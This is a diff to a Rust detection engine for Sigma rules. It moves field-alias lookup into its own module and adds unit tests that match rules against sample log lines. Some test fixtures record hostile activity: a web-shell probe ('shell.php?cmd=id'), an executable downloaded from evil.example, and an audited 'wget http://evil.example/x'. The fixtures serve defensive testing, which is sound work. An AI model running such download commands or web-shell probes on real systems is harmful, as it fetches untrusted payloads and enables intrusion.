@@ -3,8 +3,11 @@
 //! An event is of one kind or a few; a log source stands for a set of kinds. A rule whose log source stands for none (Windows
 //! process creation, say) is loaded and listed, but never asked.
 
+mod asked;
+
+pub use asked::{Asked, names};
 use lapwing_model::{Detail, Event, Field, Log, Value, Web};
-use lapwing_rules::{Body, Criteria, Fields, Item, KEYWORDS, LogSource, Pattern, Piece, Rule, RuleError, RuleSet, Test};
+use lapwing_rules::{Body, Criteria, Fields, Item, LogSource, Pattern, Piece, Rule, RuleError, RuleSet, Test};
 
 /// Kinds of event, one bit each.
 type Kinds = u64;
@@ -148,88 +151,6 @@ fn begins_as_query(test: &Test) -> bool {
     }
 }
 
-/// A field that rules ask for: under its name, else under the other names by which logs know the same.
-#[derive(Debug, Clone)]
-pub struct Asked {
-    first: Field,
-    others: Vec<Field>,
-    /// The event's own time stands in where no field does.
-    time: bool,
-}
-
-/// Sigma's names and those of the logs themselves.
-const ALSO: &[(&str, &[&str])] = &[
-    ("query", &["dns.question.name", "QueryName", "qname", "rrname"]),
-    ("record_type", &["qtype_name", "dns.question.type", "qtype", "rrtype"]),
-    ("answer", &["answers", "dns.answers.data", "rdata"]),
-    ("src_ip", &["id.orig_h", "SRC", "sourceIPAddress"]),
-    ("dst_ip", &["destination.ip", "destination.address", "id.resp_h", "DST", "dest_ip"]),
-    ("src_port", &["source.port", "id.orig_p", "SPT"]),
-    ("dst_port", &["destination.port", "id.resp_p", "DPT", "dest_port"]),
-    ("username", &["user.name"]),
-    ("User", &["user.name"]),
-    ("c-uri-stem", &["url.path"]),
-    ("cs-uri-path", &["url.path"]),
-    ("cs-referrer", &["http.request.header.referer"]),
-    ("cs(Referer)", &["http.request.header.referer"]),
-    ("cs(User-Agent)", &["user_agent.original"]),
-    ("useragent", &["user_agent.original"]),
-    ("userAgent", &["user_agent.original"]),
-    ("r-dns", &["server.address"]),
-    ("cs-cookie", &["http.request.header.cookie", "cookie"]),
-    ("s-computername", &["host.name"]),
-    ("action", &["event.action"]),
-];
-
-/// The names of fields that are known by Sigma's name for them, for suggestions.
-pub fn names() -> impl Iterator<Item = &'static str> {
-    ALSO.iter()
-        .flat_map(|(name, others)| std::iter::once(*name).chain(others.iter().copied()))
-        .filter(|name| name.contains(['.', '-', '_']))
-}
-
-const TIMES: [&str; 7] = ["@timestamp", "timestamp", "time", "date", "datetime", "event.created", "EventTime"];
-
-impl Asked {
-    #[must_use]
-    pub fn named(name: &str) -> Asked {
-        let first = if name == KEYWORDS { Field::Raw } else { Field::named(name) };
-        let others = ALSO.iter().find(|(known, _)| *known == name).map_or(&[][..], |(_, others)| others);
-        Asked { first, others: others.iter().map(|name| Field::named(name)).collect(), time: TIMES.contains(&name) }
-    }
-
-    #[must_use]
-    pub fn of<'a>(&self, event: &'a Event) -> lapwing_rules::Value<'a> {
-        let mut value = event.get(&self.first);
-        for other in &self.others {
-            if value != Value::Absent {
-                break;
-            }
-            value = event.get(other);
-            if value == Value::Absent {
-                value = pair(event, other.name()).map_or(Value::Absent, Value::Text);
-            }
-        }
-        match value {
-            Value::Absent if self.time => lapwing_rules::Value::Number(event.at.nanos() as f64),
-            Value::Absent => lapwing_rules::Value::Absent,
-            Value::Text(text) => lapwing_rules::Value::Text(text),
-            Value::Number(number) => lapwing_rules::Value::Number(number),
-            Value::Address(address) => lapwing_rules::Value::Address(address),
-        }
-    }
-}
-
-/// `SRC=192.0.2.1` in the message of a packet filter.
-fn pair<'a>(event: &'a Event, name: &str) -> Option<&'a [u8]> {
-    let Detail::Log(log) = &event.detail else { return None };
-    if event.text(log.logger) != b"kernel" || name.len() != 3 {
-        return None;
-    }
-    let mut words = event.text(log.message).split(|byte| *byte == b' ');
-    words.find_map(|word| word.strip_prefix(name.as_bytes())?.strip_prefix(b"="))
-}
-
 /// Says of which kinds events are.
 #[derive(Debug)]
 pub struct Router {
@@ -353,4 +274,128 @@ impl Fields for Seen<'_> {
 #[must_use]
 pub fn fields(set: &RuleSet) -> Vec<Asked> {
     set.fields().iter().map(|name| Asked::named(name)).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use bytes::Bytes;
+    use lapwing_model::{Origin, Position, Record, Timestamp};
+    use lapwing_parse::Parser;
+    use lapwing_rules::{Scratch, parse};
+
+    use super::*;
+
+    fn read(line: &str) -> Event {
+        let record = Record {
+            body: Bytes::copy_from_slice(line.as_bytes()),
+            origin: Origin::new("test"),
+            position: Position::default(),
+            received: Timestamp::from_seconds(1_900_000_000),
+        };
+        let mut events = Vec::new();
+        Parser::new().parse(&record, &mut events);
+        events.remove(0)
+    }
+
+    /// Whether a rule of that log source and selection matches the line.
+    fn matches(source: &str, selection: &str, line: &str) -> bool {
+        let yaml = format!("title: t\nlogsource: {source}\ndetection:\n  s: {selection}\n  condition: s\n");
+        let (set, errors) = compile(parse("x.yml", &yaml).0);
+        assert_eq!(errors, []);
+        let (event, fields, mut found) = (read(line), fields(&set), Vec::new());
+        let seen = Seen { event: &event, fields: &fields, kinds: Router::default().kinds(&event) };
+        set.matches(&mut Scratch::new(), &seen, &mut found);
+        !found.is_empty()
+    }
+
+    const WEB: &str = r#"203.0.113.9 - bob [01/Mar/2025:10:00:00 +0000] "GET /a/shell.php?cmd=id HTTP/1.1" 404 157 "http://x.example/" "curl/8""#;
+    const PROXIED: &str =
+        r#"10.0.0.5 - - [01/Mar/2025:10:00:00 +0000] "GET http://evil.example/a.exe HTTP/1.1" 200 157 "-" "curl/8.0""#;
+    const SSH: &str = "Mar  1 10:00:00 web1 sshd[7]: Failed password for root from 203.0.113.9 port 50222 ssh2";
+    const PACKET: &str =
+        "Mar  1 10:00:00 fw kernel: [1.5] DROP IN=eth0 OUT= SRC=203.0.113.9 DST=10.1.2.3 PROTO=TCP SPT=4711 DPT=3389";
+    const AUDIT: &str = r#"type=EXECVE msg=audit(1740823200.123:42): argc=2 a0="wget" a1="http://evil.example/x""#;
+    const ZEEK: &str = r#"{"ts":1740823200.1,"uid":"C1","id.orig_h":"10.0.0.5","id.orig_p":53211,"id.resp_h":"10.0.0.1","id.resp_p":53,"query":"evil.example","qtype_name":"TXT"}"#;
+
+    #[test]
+    fn an_event_belongs_to_the_log_sources_of_its_kind_and_to_no_others() {
+        for (line, its, others) in [
+            (
+                WEB,
+                &["{category: webserver}", "{product: apache}"][..],
+                &["{category: proxy}", "{product: linux, service: sshd}", "{category: dns}"][..],
+            ),
+            (PROXIED, &["{category: proxy}"], &["{category: firewall}"]),
+            (
+                SSH,
+                &[
+                    "{product: linux, service: sshd}",
+                    "{product: linux, service: auth}",
+                    "{product: linux}",
+                    "{category: application}",
+                    "{}",
+                ],
+                &[
+                    "{category: webserver}",
+                    "{product: linux, service: cron}",
+                    "{product: windows}",
+                    "{product: linux, service: auditd}",
+                ],
+            ),
+            (PACKET, &["{category: firewall}", "{product: linux}"], &["{product: linux, service: sshd}", "{category: proxy}"]),
+            (
+                AUDIT,
+                &["{product: linux, service: auditd}"],
+                &["{product: linux, service: sshd}", "{category: webserver}", "{product: linux, category: process_creation}"],
+            ),
+            (
+                ZEEK,
+                &["{product: zeek, service: dns}", "{category: dns}", "{product: zeek}"],
+                &["{product: linux, service: syslog}", "{category: webserver}"],
+            ),
+        ] {
+            let kinds = Router::default().kinds(&read(line));
+            for (sources, wanted) in [(its, true), (others, false)] {
+                for source in sources {
+                    let yaml = format!("title: t\nlogsource: {source}\ndetection:\n  s: {{a: 1}}\n  condition: s\n");
+                    let rule = &parse("x.yml", &yaml).0[0];
+                    assert_eq!(kinds_of(&rule.logsource) & kinds != 0, wanted, "{source} and {line}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn fields_by_sigmas_names_stand_where_the_logs_have_them() {
+        let web = "{category: webserver}";
+        for (source, selection, line, wanted) in [
+            (web, "{cs-method: GET, sc-status: 404, c-ip|cidr: 203.0.113.0/24, cs-username: bob}", WEB, true),
+            (web, "{cs-uri-stem|endswith: shell.php}", WEB, true),
+            (web, "{cs-uri-query|contains: /a/shell.php}", WEB, true),
+            (web, "{cs-uri-query|startswith: 'cmd='}", WEB, true),
+            (web, "{cs-uri-query|startswith: '/a/'}", WEB, true),
+            (web, "{cs-uri-query: 'cmd=id'}", WEB, true),
+            (web, "{c-uri-extension: [php, asp]}", WEB, true),
+            (web, "{c-uri-extension: exe}", WEB, false),
+            (web, "{cs-referrer|contains: x.example, c-useragent|startswith: curl}", WEB, true),
+            ("{category: proxy}", "{c-uri|contains: evil.example, c-uri-extension: exe}", PROXIED, true),
+            ("{category: firewall}", "{src_ip: 203.0.113.9, dst_ip|cidr: 10.0.0.0/8, dst_port: 3389}", PACKET, true),
+            ("{category: firewall}", "{dst_port: [22, 23]}", PACKET, false),
+            ("{product: linux, service: auditd}", "{type: EXECVE, a0: wget}", AUDIT, true),
+            ("{category: dns}", "{query|endswith: .example, record_type: TXT}", ZEEK, true),
+            ("{product: zeek}", "{id.resp_p: 53, src_ip: 10.0.0.5}", ZEEK, true),
+            (web, "{date|hour: 10, '@timestamp|year|gte': 2025}", WEB, true),
+            (web, "{date|hour: 11}", WEB, false),
+            ("{service: sshd}", "['failed password']", SSH, true),
+        ] {
+            assert_eq!(matches(source, selection, line), wanted, "{selection} on {line}");
+        }
+    }
+
+    #[test]
+    fn a_rule_that_no_event_can_meet_is_kept_and_known_as_such() {
+        let yaml = "title: w\nlogsource: {product: windows, category: process_creation}\ndetection: {s: {Image|endswith: x.exe}, condition: s}\n";
+        let (set, errors) = compile(parse("x.yml", yaml).0);
+        assert!(errors.is_empty() && set.rules().len() == 1 && !set.applicable(0) && set.fields().is_empty());
+    }
 }
